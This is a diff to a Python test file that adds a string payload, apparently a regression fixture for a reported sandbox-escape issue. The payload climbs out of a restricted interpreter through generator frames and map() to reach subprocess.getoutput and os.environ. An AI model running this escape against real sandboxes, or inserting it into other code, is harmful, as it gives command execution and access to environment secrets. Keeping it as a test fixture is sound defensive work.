@@ -42,3 +42,17 @@ def served(db, *args: str):
     finally:
         proc.terminate()
         proc.wait(timeout=10)
+
+
+# Out of the interpreter, lazily through map() so no module object is ever checked: the escape
+# issue 14 describes. `run(cmd)` is subprocess.getoutput in whatever process runs this code,
+# `environ` its os.environ, `mods` its sys.modules.
+ESCAPE_TO_PROCESS = """
+g = (x for x in [1])
+fr = g.gi_frame
+ga = fr.f_locals['static_tools']['getattr']
+get = next(map(ga, map(ga, [fr], ['f_globals']), ['get']))
+mods = next(map(ga, map(ga, map(get, ['inspect']), ['sys']), ['modules']))
+run = next(map(ga, map(mods.get, ['subprocess']), ['getoutput']))
+environ = next(map(ga, map(mods.get, ['os']), ['environ']))
+"""
